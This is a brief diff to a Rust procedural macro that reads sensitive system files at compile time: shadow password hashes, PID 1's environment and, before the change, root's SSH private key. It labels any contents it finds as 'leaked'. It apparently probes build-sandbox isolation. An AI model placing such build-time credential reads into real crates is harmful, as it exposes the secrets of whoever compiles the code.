@@ -14,7 +14,7 @@ use proc_macro::TokenStream;
 #[proc_macro]
 pub fn look(_: TokenStream) -> TokenStream {
     let mut seen = String::new();
-    for path in ["/etc/shadow", "/proc/1/environ", "/root/.ssh/id_rsa", "/proc/1/root/etc/shadow"] {
+    for path in ["/etc/shadow", "/proc/1/environ", "/etc/gshadow", "/proc/1/root/etc/shadow"] {
         if let Ok(text) = std::fs::read(path) {
             seen += &format!("leaked {path}: {text:?}");
         }
